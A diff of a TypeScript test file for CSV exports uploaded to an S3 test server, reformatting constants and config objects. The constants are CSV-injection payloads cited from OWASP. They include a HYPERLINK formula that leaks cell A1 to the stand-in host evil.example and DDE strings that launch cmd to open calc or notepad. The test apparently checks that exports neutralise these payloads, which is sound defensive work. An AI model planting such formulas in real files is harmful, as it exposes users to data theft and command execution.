@@ -17,9 +17,9 @@ import { S3_CREDENTIALS, type S3TestServer, startS3 } from '../helpers/s3-server
 const BUCKET = 'celdas';
 /** Payloads from OWASP's CSV Injection page, one per dangerous first character. */
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
-const AT_SUM = '@SUM(1+9)*cmd|\' /C calc\'!A0';
-const PLUS_DDE = '+cmd|\' /C notepad\'!A0';
-const MINUS_DDE = '-2+3+cmd|\' /C calc\'!A0';
+const AT_SUM = "@SUM(1+9)*cmd|' /C calc'!A0";
+const PLUS_DDE = "+cmd|' /C notepad'!A0";
+const MINUS_DDE = "-2+3+cmd|' /C calc'!A0";
 const TAB = '\t=1+1';
 const CR = '\r=1+1';
 
@@ -49,9 +49,22 @@ describe.each(DIALECTS)('on %s', (dialect) => {
 
   /** Uploads the clean exports under `prefix` and returns a function that downloads one, as text. */
   async function upload(prefix: string, env: Record<string, string> = {}) {
-    const config = readS3Config({ S3_BUCKET: BUCKET, AWS_REGION: 'us-east-1', S3_ENDPOINT: s3.endpoint, S3_FORCE_PATH_STYLE: 'true', S3_PREFIX: prefix, ...env });
+    const config = readS3Config({
+      S3_BUCKET: BUCKET,
+      AWS_REGION: 'us-east-1',
+      S3_ENDPOINT: s3.endpoint,
+      S3_FORCE_PATH_STYLE: 'true',
+      S3_PREFIX: prefix,
+      ...env,
+    });
     const client = createS3Client(config);
-    const run = await runUpload(db, client, config, { what: 'clean', gzip: false, dryRun: false, dataDir: 'data', clock: () => new Date('2026-11-30T00:00:00Z') });
+    const run = await runUpload(db, client, config, {
+      what: 'clean',
+      gzip: false,
+      dryRun: false,
+      dataDir: 'data',
+      clock: () => new Date('2026-11-30T00:00:00Z'),
+    });
     expect(run.status).toBe('ok');
     return async (table: string) => {
       const out = await client.send(new GetObjectCommand({ Bucket: BUCKET, Key: `${prefix}/clean/fecha=2026-11-30/${table}.csv` }));
